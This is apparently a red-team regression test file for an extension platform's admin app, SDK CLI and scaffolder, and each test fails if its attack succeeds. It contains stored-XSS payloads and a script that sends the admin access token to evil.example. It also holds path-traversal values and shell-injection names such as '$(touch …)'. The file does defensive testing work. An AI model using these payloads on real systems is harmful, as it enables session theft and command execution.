// Red team: the admin app (stored XSS through data an attacker controls) and the extension
// SDK / scaffolder (path traversal, command injection, token handling). Every test FAILS when
// its attack succeeds; attacks that are blocked stay as regression tests.
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCollection, createUser, ROOT, startHost, type TestHost } from '../helpers/host.js';
import { writeEndpoint, writePackage } from '../helpers/write-extension.js';
import { launch, SKIP_REASON, type E2EBrowser } from '../e2e/browser.js';
import { skipWithout } from '../helpers/requires.js';

const SDK_CLI = path.join(ROOT, 'sdk-extension', 'dist', 'cli', 'main.js');
const CREATE_CLI = path.join(ROOT, 'create-extension', 'dist', 'main.js');
const APP_BUILT = fs.existsSync(path.join(ROOT, 'host', 'app', 'dist', 'index.html'));

function tmp(prefix: string): string {
  return fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), `annex-redteam-${prefix}-`)));
}
function run(cli: string, args: string[], cwd: string, env: Record<string, string> = {}) {
  const r = spawnSync(process.execPath, [cli, ...args], {
    cwd,
    encoding: 'utf8',
    timeout: 15_000,
    env: { ...process.env, NO_COLOR: '1', ...env },
  });
  return { code: r.status, out: r.stdout, err: r.stderr };
}
/** Every path below `dir` (files, folders, links), relative. */
function tree(dir: string): string[] {
  const out: string[] = [];
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const rel = e.name;
    out.push(rel);
    if (e.isDirectory() && !e.isSymbolicLink()) out.push(...tree(path.join(dir, e.name)).map((p) => `${rel}/${p}`));
  }
  return out;
}
const hookPkg = (extra: Record<string, unknown> = {}, manifest: Record<string, unknown> = {}) => ({
  name: 'redteam-hook',
  version: '1.0.0',
  type: 'module',
  license: 'MIT',
  ...extra,
  'directus:extension': { type: 'hook', path: 'dist/index.js', source: 'src/index.js', host: '^10.10.0', ...manifest },
});
const HOOK_SRC = {
  'src/index.js': 'export default ({ filter }) => { filter("items.create", (p) => p); };\n',
  'README.md': '# x\n',
};

// ─────────────────────────────────────────────────────────────────────────────────────────────
// 1. Admin app in a real browser: data written by a non-admin, rendered for an administrator.
// ─────────────────────────────────────────────────────────────────────────────────────────────
describe.skipIf(
  skipWithout('Chromium', SKIP_REASON) ||
    skipWithout('the built admin app', APP_BUILT ? null : 'host/app/dist is missing: run npm run build'),
)('admin app: stored XSS through data (browser)', () => {
  let t: TestHost;
  let browser: E2EBrowser;
  let dashboardId = '';

  beforeAll(async () => {
    t = await startHost({ env: { EXTENSIONS_SANDBOX_GRANT: 'none' } });
    // An item whose values are markup: shown in the tabular layout and the item form.
    await createCollection(t, 'notes', { title: 'string', body: 'text' });
    await t.api('POST', '/items/notes', {
      title: '<img src=x onerror="window.__xssItem=1">',
      body: '<script>window.__xssItem=2</script>',
    });
    // A non-admin editor who may build dashboards (Directus's shared Insights).
    const editor = await createUser(t, 'editor', [
      { collection: 'directus_dashboards', action: 'create' },
      { collection: 'directus_dashboards', action: 'read' },
      { collection: 'directus_panels', action: 'create' },
      { collection: 'directus_panels', action: 'read' },
    ]);
    const dash = await t.api(
      'POST',
      '/dashboards',
      { name: '<img src=x onerror="window.__xssDashName=1">' },
      editor.token,
    );
    expect(dash.status).toBe(200);
    dashboardId = dash.body.data.id;
    // Panel options are spread onto the panel component (`v-bind="panel.options"`): an option named
    // innerHTML falls through to the panel's root element as a DOM property.
    const panel = await t.api(
      'POST',
      '/panels',
      {
        dashboard: dashboardId,
        name: '<b>x</b>',
        type: 'label',
        width: 12,
        height: 8,
        position_x: 1,
        position_y: 1,
        options: JSON.stringify({ text: 'quarterly numbers', innerHTML: '<img src=x onerror="window.__xssPanel=1">' }),
      },
      editor.token,
    );
    expect(panel.status).toBe(200);
    browser = await launch();
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    await t?.close();
  });

  it('panel options written by a non-admin run no script in the admin session (Insights dashboard)', async () => {
    const page = await browser.newPage();
    try {
      // Log in through the form, with an off-site redirect target (open-redirect probe).
      await page.goto(`${t.url}/admin/login?redirect=${encodeURIComponent('//evil.example/steal')}`);
      await page.fill('input[name=email]', 'admin@example.com');
      await page.fill('input[name=password]', 'admin-password');
      await page.click('[data-test=login-submit]');
      await page.waitForFunction(() => Boolean(localStorage.getItem('annex.access_token')), null, { timeout: 10_000 });
      await page.waitForTimeout(300);
      expect(new URL(page.url()).origin, 'login redirect left the app origin').toBe(t.url);

      const nav = (to: string) => page.evaluate((p) => (window as any).__annex.router.push(p), to);
      await page.waitForFunction(() => Boolean((window as any).__annex?.registry?.state?.panels?.length), null, {
        timeout: 10_000,
      });
      // Items with markup values: tabular layout, then the item form.
      await nav('/content/notes');
      await page.waitForSelector('[data-layout=tabular] tr[data-item]', { timeout: 10_000 });
      await nav('/content/notes/1');
      await page.waitForSelector('[data-field=title]', { timeout: 10_000 });
      // The dashboard the editor prepared.
      await nav('/insights');
      await page.waitForSelector('[data-dashboard]', { timeout: 10_000 });
      await nav(`/insights/${dashboardId}`);
      await page.waitForSelector('[data-panel-type=label]', { timeout: 10_000 });
      await page.waitForTimeout(500);
      const hits = await page.evaluate(() => ({
        item: (window as any).__xssItem ?? null,
        dashboardName: (window as any).__xssDashName ?? null,
        panel: (window as any).__xssPanel ?? null,
        injectedImg: document.querySelectorAll('[data-panel-type=label] img').length,
      }));
      expect(hits.item, 'item value executed').toBeNull();
      expect(hits.dashboardName, 'dashboard name executed').toBeNull();
      expect(
        { ran: hits.panel, injectedImg: hits.injectedImg },
        'panel option `innerHTML` became markup / ran script in the admin session',
      ).toEqual({ ran: null, injectedImg: 0 });
    } finally {
      await page.close();
    }
  });
});

// ─────────────────────────────────────────────────────────────────────────────────────────────
// 2. Host: a sandboxed (untrusted, no scopes granted) extension must not get script onto the
//    app's origin, where the admin's tokens live in localStorage.
// ─────────────────────────────────────────────────────────────────────────────────────────────
describe('host: script on the admin origin from sandboxed extensions and reflected data', () => {
  let t: TestHost;
  beforeAll(async () => {
    t = await startHost({ env: { EXTENSIONS_SANDBOX_GRANT: 'none' } });
    writePackage(
      path.join(t.extensionsPath, 'redteam-sandboxed-embed'),
      {
        name: 'redteam-sandboxed-embed',
        version: '1.0.0',
        type: 'module',
        'directus:extension': {
          type: 'hook',
          path: 'dist/index.js',
          source: 'src/index.js',
          host: '^10.10.0',
          sandbox: { enabled: true, requestedScopes: {} },
        },
      },
      {
        'dist/index.js': `export default ({ embed }) => { embed('head', '<script>fetch("//evil.example/?t="+localStorage.getItem("annex.access_token"))</script>'); };\n`,
      },
    );
    writeEndpoint(t.extensionsPath, 'redteam-sandboxed-html', '', {
      sandbox: true,
      raw: `export default (router) => { router.get('/', () => ({ status: 200, headers: { 'content-type': 'text/html; charset=utf-8' }, body: '<script>fetch("//evil.example/?t="+localStorage.getItem("annex.access_token"))</script>' })); };\n`,
    });
    await t.host.kernel.extensions.rescan();
  }, 60_000);
  afterAll(() => t?.close());

  it('a sandboxed hook with no granted scope cannot embed <script> into /admin', async () => {
    const row = (await t.api('GET', '/extensions')).body.data.find(
      (e: any) => e.annex?.name === 'redteam-sandboxed-embed',
    );
    const html = await (await fetch(`${t.url}/admin/`)).text();
    const injected = html.includes('localStorage.getItem("annex.access_token")');
    expect(
      injected,
      `sandboxed embed (state ${row?.annex?.state}, granted ${JSON.stringify(row?.annex?.granted_scopes ?? null)}) put a <script> into the admin page`,
    ).toBe(false);
  });

  it('a sandboxed endpoint with no granted scope cannot serve active HTML on the app origin', async () => {
    const res = await fetch(`${t.url}/redteam-sandboxed-html`);
    const body = await res.text();
    const type = res.headers.get('content-type') ?? '';
    const csp = res.headers.get('content-security-policy') ?? '';
    const active = body.includes('<script>') && /text\/html|xhtml|svg/i.test(type) && !/\bsandbox\b/.test(csp);
    expect(
      active,
      `sandboxed endpoint served script as the app origin (${res.status}, ${type}, csp ${JSON.stringify(csp)})`,
    ).toBe(false);
  });

  it('error responses reflecting the path are JSON, not HTML', async () => {
    for (const p of [
      '/%3Cimg%20src=x%20onerror=alert(1)%3E',
      '/admin/assets/%3Cscript%3E.js',
      '/extensions/sources/%3Cscript%3E.js',
      '/items/%3Cscript%3E',
    ]) {
      const res = await fetch(t.url + p, { headers: { Authorization: `Bearer ${t.token}` } });
      const text = await res.text();
      // Every one is an error, answered as JSON with a code (never HTML, whether or not it echoes the path).
      expect(
        {
          status: res.status,
          type: res.headers.get('content-type') ?? '',
          code: typeof JSON.parse(text)?.errors?.[0]?.extensions?.code,
        },
        p,
      ).toEqual({ status: expect.any(Number), type: expect.stringMatching(/^application\/json/), code: 'string' });
      expect(res.status, p).toBeGreaterThanOrEqual(400);
    }
  });

  it('the admin page is served with anti-framing and nosniff headers', async () => {
    const res = await fetch(`${t.url}/admin/content`);
    expect(res.headers.get('x-frame-options')).toBe('SAMEORIGIN');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });
});

// ─────────────────────────────────────────────────────────────────────────────────────────────
// 3. annex-extension (SDK CLI) on a hostile package.json / arguments.
// ─────────────────────────────────────────────────────────────────────────────────────────────
describe('sdk: annex-extension with a hostile package.json', () => {
  /** Exit code of a build whose manifest is refused (a validation error). */
  const BUILD_REFUSED = 1;
  it('control: the same package with a plain path builds into dist/', () => {
    const root = tmp('build-ok');
    const ext = writePackage(path.join(root, 'ext'), hookPkg(), HOOK_SRC);
    const r = run(SDK_CLI, ['build', '--json'], ext);
    expect({ code: r.code, built: fs.existsSync(path.join(ext, 'dist', 'index.js')) }).toEqual({
      code: 0,
      built: true,
    });
  });

  it('build: directus:extension.path cannot write outside the extension folder (relative ../)', () => {
    const root = tmp('build-rel');
    const ext = writePackage(path.join(root, 'ext'), hookPkg({}, { path: '../escaped-build.js' }), HOOK_SRC);
    const r = run(SDK_CLI, ['build', '--json'], ext);
    expect(fs.existsSync(path.join(root, 'escaped-build.js')), `build wrote outside the folder (exit ${r.code})`).toBe(
      false,
    );
    expect(r.code).toBe(BUILD_REFUSED);
  });

  it('build: directus:extension.path cannot write to an absolute path', () => {
    const root = tmp('build-abs');
    const target = path.join(root, 'elsewhere', 'abs-escape.js');
    const ext = writePackage(path.join(root, 'ext'), hookPkg({}, { path: target }), HOOK_SRC);
    const r = run(SDK_CLI, ['build', '--json'], ext);
    expect(fs.existsSync(target), `build wrote to an absolute path (exit ${r.code})`).toBe(false);
    expect(r.code).toBe(BUILD_REFUSED);
  });

  it('build: bundle entry names cannot inject code into the generated entry module', () => {
    const root = tmp('build-bundle');
    const ext = writePackage(
      path.join(root, 'ext'),
      {
        name: 'redteam-bundle',
        version: '1.0.0',
        type: 'module',
        license: 'MIT',
        'directus:extension': {
          type: 'bundle',
          path: { app: 'dist/app.js', api: 'dist/api.js' },
          host: '^10.10.0',
          entries: [{ type: 'hook', name: 'x", config: e0 }]; globalThis.__pwned = 1; //', source: 'src/hook.js' }],
        },
      },
      { 'src/hook.js': HOOK_SRC['src/index.js'] },
    );
    run(SDK_CLI, ['build', '--no-minify'], ext);
    const out = fs.existsSync(path.join(ext, 'dist/api.js'))
      ? fs.readFileSync(path.join(ext, 'dist/api.js'), 'utf8')
      : '';
    expect(out).not.toMatch(/^\s*globalThis\.__pwned\s*=\s*1/m);
  });

  it('pack: a "version" with path segments cannot place the tarball outside --pack-destination', () => {
    const root = tmp('pack');
    const ext = writePackage(path.join(root, 'ext'), hookPkg({ version: '1.0.0/../../escaped-pack' }), {
      ...HOOK_SRC,
      'dist/index.js': 'export default () => {};\n',
    });
    const r = run(SDK_CLI, ['pack', '--json'], ext);
    const outside = tree(root).filter((p) => p.endsWith('.tgz') && !p.startsWith('ext/'));
    expect(outside, `pack wrote a tarball outside the folder (exit ${r.code}): ${r.out}`).toEqual([]);
  });

  it('link: a package name of ".." or with slashes links only inside the extensions folder', () => {
    const root = tmp('link');
    const hostExt = path.join(root, 'host', 'extensions');
    fs.mkdirSync(hostExt, { recursive: true });
    const codes: Record<string, number | null> = {};
    // The control (a plain name) first: it must link, inside the folder.
    for (const name of ['ok-link', '..', '../../evil', '@scope/../../../evil2']) {
      const ext = writePackage(path.join(root, 'src', String(Math.random()).slice(2)), hookPkg({ name }), HOOK_SRC);
      codes[name] = run(SDK_CLI, ['link', hostExt, '--json'], ext).code;
    }
    const links = tree(root).filter((p) => fs.lstatSync(path.join(root, p)).isSymbolicLink());
    // ".." is refused; names with slashes are flattened into one folder name inside the extensions folder.
    expect({ codes, links: links.sort() }).toEqual({
      codes: { 'ok-link': 0, '..': 1, '../../evil': 0, '@scope/../../../evil2': 0 },
      links: ['host/extensions/..-..-evil', 'host/extensions/@scope-..-..-..-evil2', 'host/extensions/ok-link'],
    });
    expect(fs.existsSync(path.join(root, 'evil'))).toBe(false);
  });

  it('add: --name and --convert-name with path segments are refused', () => {
    const root = tmp('add');
    const ext = writePackage(path.join(root, 'ext'), hookPkg(), HOOK_SRC);
    const before = tree(root);
    for (const args of [
      ['--type', 'hook', '--name', '../../escaped-add'],
      ['--type', 'hook', '--name', 'ok', '--convert-name', '../../escaped-conv'],
    ]) {
      const r = run(SDK_CLI, ['add', ...args], ext);
      expect(r.code, args.join(' ')).toBe(1);
    }
    expect(tree(root)).toEqual(before);
  });

  it('publish: the token is never written to disk or printed, and is not forwarded on a cross-origin redirect', async () => {
    const root = tmp('publish');
    const ext = writePackage(path.join(root, 'ext'), hookPkg(), {
      ...HOOK_SRC,
      'dist/index.js': 'export default () => {};\n',
    });
    const TOKEN = 'npm_SECRET_redteam_token_0123456789';
    const seen: (string | undefined)[] = [];
    const evil = http.createServer((req, res) => {
      seen.push(req.headers.authorization);
      req.resume();
      res.writeHead(201, { 'content-type': 'application/json' }).end('{}');
    });
    await new Promise<void>((r) => evil.listen(0, '127.0.0.1', r));
    const evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
    let registryHits = 0;
    const registry = http.createServer((req, res) => {
      registryHits++;
      req.resume();
      res.writeHead(307, { location: `${evilUrl}${req.url}` }).end();
    });
    await new Promise<void>((r) => registry.listen(0, 'localhost', r));
    try {
      const url = `http://localhost:${(registry.address() as AddressInfo).port}`;
      const dry = spawnSync(process.execPath, [SDK_CLI, 'publish', '--dry-run', '--json', '--registry', url], {
        cwd: ext,
        encoding: 'utf8',
        env: { ...process.env, ANNEX_MARKETPLACE_TOKEN: TOKEN },
      });
      expect(dry.stdout + dry.stderr).not.toContain(TOKEN);
      // The real publish, in this process (the CLI's code path), against the redirecting registry.
      const { publish } = await import('@annex/sdk-extension/node');
      await publish({ cwd: ext, registry: url, token: TOKEN }).catch((e: Error) => e);
      // Control: the publish did reach the registry (and was redirected), so the check below means something.
      expect(registryHits).toBeGreaterThan(0);
      expect(
        seen.filter((a) => a?.includes(TOKEN)),
        'bearer token sent to the redirect target',
      ).toEqual([]);
      for (const f of tree(root)) {
        const full = path.join(root, f);
        if (fs.statSync(full).isFile()) expect(fs.readFileSync(full).includes(TOKEN), `token in ${f}`).toBe(false);
      }
    } finally {
      evil.close();
      registry.close();
    }
  });
});

// ─────────────────────────────────────────────────────────────────────────────────────────────
// 4. create-annex-extension with hostile names.
// ─────────────────────────────────────────────────────────────────────────────────────────────
describe('scaffolder: create-annex-extension with hostile names', () => {
  it('path traversal and shell metacharacters in the name are refused; nothing is written or run', () => {
    const root = tmp('create');
    const work = path.join(root, 'work');
    fs.mkdirSync(work);
    const marker = path.join(root, 'pwned');
    const names = [
      '../../escape',
      '../escape',
      '..',
      '.',
      '@x/../../y',
      '@../x',
      `$(touch ${marker})`,
      `\`touch ${marker}\``,
      `x;touch ${marker}`,
      'x\nrm',
      '/tmp/abs-escape',
      '~/home-escape',
      'ESCAPE',
    ];
    for (const name of names) {
      const r = run(CREATE_CLI, [name, '--type', 'endpoint', '--yes', '--no-install'], work);
      expect(r.code, `name ${JSON.stringify(name)} accepted: ${r.err}`).toBe(2);
    }
    expect(fs.existsSync(marker)).toBe(false);
    expect(fs.existsSync('/tmp/abs-escape')).toBe(false);
    expect(tree(root)).toEqual(['work']);
  }, 60_000);

  it('a name that looks like an option ("-rf") is data: it creates ./-rf inside the cwd, runs nothing', () => {
    const root = tmp('create-opt');
    const work = path.join(root, 'work');
    fs.mkdirSync(work);
    fs.writeFileSync(path.join(root, 'keep.txt'), 'keep');
    const r = run(CREATE_CLI, ['--type', 'endpoint', '--yes', '--no-install', '--', '-rf'], work);
    expect(fs.readFileSync(path.join(root, 'keep.txt'), 'utf8')).toBe('keep');
    const top = tree(root).filter((p) => !p.includes('/'));
    expect(top.sort()).toEqual(['keep.txt', 'work']);
    expect({ code: r.code, created: fs.existsSync(path.join(work, '-rf', 'package.json')) }).toEqual({
      code: 0,
      created: true,
    });
  });

  it('the install step runs the package manager without a shell, whatever npm_config_user_agent says', () => {
    const root = tmp('create-pm');
    const marker = path.join(root, 'pwned-pm');
    const r = run(CREATE_CLI, ['pm-probe', '--type', 'endpoint', '--yes', '--install'], root, {
      npm_config_user_agent: `npm;touch ${marker}/10.0.0 node/v20`,
      PATH: `${root}:/nonexistent`, // no real npm: the install fails fast instead of reaching the network
    });
    expect(fs.existsSync(marker)).toBe(false);
    expect(r.code).not.toBe(null);
  });

  it('never writes into a non-empty target folder (no overwrite of existing files)', () => {
    const root = tmp('create-nonempty');
    fs.mkdirSync(path.join(root, 'proj'));
    fs.writeFileSync(path.join(root, 'proj', 'package.json'), '{"name":"mine"}');
    const r = run(CREATE_CLI, ['proj', '--type', 'endpoint', '--yes', '--no-install'], root);
    expect(r.code).toBe(1);
    expect(fs.readFileSync(path.join(root, 'proj', 'package.json'), 'utf8')).toBe('{"name":"mine"}');
  });
});
